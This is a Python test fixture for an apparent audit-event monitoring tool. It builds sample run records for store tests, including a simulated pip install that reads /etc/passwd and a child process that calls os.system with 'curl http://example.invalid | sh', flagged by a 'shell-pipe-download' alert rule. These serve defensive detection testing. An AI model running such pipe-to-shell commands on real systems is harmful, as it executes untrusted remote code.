"""Schema-shaped records for the store tests: a few runs, one started by another."""

from __future__ import annotations

import json
from typing import Any, Dict, Optional, Tuple

from auditwatch.store import PeerCred

T0 = 1_700_000_000_000_000_000  # ns since the epoch: 2023-11-14T22:13:20Z

Item = Tuple[bytes, Dict[str, Any], Optional[PeerCred]]


def run_id(n: int) -> str:
    return f"{n:032x}"


def make_run(
    run: str,
    parent: str | None,
    pid: int,
    argv: list[str],
    events: list[tuple[str, list]],
    t0: int,
    exit_code: int | None = 0,
) -> list[dict[str, Any]]:
    """A start record, the events, and (unless ``exit_code`` is None) an exit record."""
    common = {"v": 1, "run": run, "parent_run": parent, "pid": pid, "installed": "site"}
    recs: list[dict[str, Any]] = []

    def add(ts: int, kind: str, **fields: Any) -> None:
        recs.append({**common, "seq": len(recs) + 1, "ts": ts, "kind": kind, **fields})

    add(
        t0,
        "start",
        proc={
            "exe": "/usr/bin/python3",
            "argv": argv,
            "cwd": "/home/dev/proj",
            "uid": 1000,
            "gid": 1000,
            "user": "dev",
            "ppid": 1,
            "python": "3.11.7",
            "fork": False,
            "host": "box",
        },
    )
    for i, (event, args) in enumerate(events):
        add(
            t0 + (i + 1) * 1_000_000,
            "event",
            tid=pid,
            interp=0,
            event=event,
            args=args,
            where={"file": "/home/dev/proj/app.py", "line": 10 + i, "func": "main"},
            action="record",
        )
    if exit_code is not None:
        add(t0 + (len(events) + 1) * 1_000_000, "exit", status={"how": "exit", "code": exit_code})
    return recs


def encode(rec: dict[str, Any]) -> bytes:
    # Not Python's default separators, to show the raw line is kept as sent.
    return json.dumps(rec, separators=(", ", ": ")).encode()


DEFAULT_PEER = PeerCred(pid=4242, uid=1000, gid=1000)


def sample_items(peer: PeerCred | None = DEFAULT_PEER) -> list[Item]:
    """Three runs: a parent that starts a child, the child's own child, and a stranger."""
    parent, child, grandchild, other = run_id(0xA1), run_id(0xB2), run_id(0xC3), run_id(0xD4)
    runs = [
        make_run(
            parent,
            None,
            100,
            ["python", "-m", "pip", "install", "./pkg"],
            [
                ("import", ["json", None, [], [], []]),
                ("open", ["/etc/passwd", "r", 524288]),
                ("subprocess.Popen", ["/usr/bin/python3", ["python3", "setup.py"], None, None]),
                (
                    "exec",
                    [{"$": "code", "name": "<module>", "file": "x", "line": 1, "sha256": "00"}],
                ),
            ],
            T0,
        ),
        make_run(
            child,
            parent,
            101,
            ["python3", "setup.py"],
            [
                ("open", ["/home/dev/proj/setup.cfg", "r", 524288]),
                ("socket.connect", [{"$": "object", "type": "socket"}, ["10.0.0.1", 443]]),
                ("os.system", ["curl http://example.invalid | sh"]),
            ],
            T0 + 10_000_000,
            exit_code=1,
        ),
        make_run(
            grandchild,
            child,
            102,
            ["python3", "-c", "pass"],
            [("open", ["/tmp/caf\u00e9.txt", "w", 524288])],
            T0 + 20_000_000,
            exit_code=None,  # killed: no exit record
        ),
        make_run(other, None, 200, ["python3", "other.py"], [("import", ["os"])], T0 + 5_000_000),
    ]
    recs = [r for run in runs for r in run]
    recs.sort(key=lambda r: r["ts"])
    alert = {
        "v": 1,
        "seq": 0,
        "run": child,
        "parent_run": parent,
        "pid": 101,
        "installed": "site",
        "ts": T0 + 40_000_000,
        "kind": "alert",
        "rule": "shell-pipe-download",
        "event": "os.system",
    }
    recs.append(alert)
    return [(encode(r), r, peer) for r in recs]


RUNS = {
    "parent": run_id(0xA1),
    "child": run_id(0xB2),
    "grandchild": run_id(0xC3),
    "other": run_id(0xD4),
}
